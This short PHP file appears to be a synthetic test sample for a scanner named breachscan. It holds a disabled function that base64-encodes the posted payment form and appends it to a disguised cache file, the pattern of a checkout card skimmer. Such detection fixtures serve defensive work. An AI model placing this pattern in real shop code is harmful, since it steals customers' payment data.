<?php
// synthetic test sample for breachscan: posted-form dump shape - code added to a checkout
// controller serialises the whole posted payment section, base64-encodes it and appends it to
// a cache file. Disabled by the early return.
function synthetic_checkout_save_payment()
{
    return;
    if (isset($_POST['payment'])) {
        file_put_contents('/var/www/shop/var/cache/mage--4/.session', base64_encode(serialize($_POST['payment'])) . "\n", FILE_APPEND);
    }
}
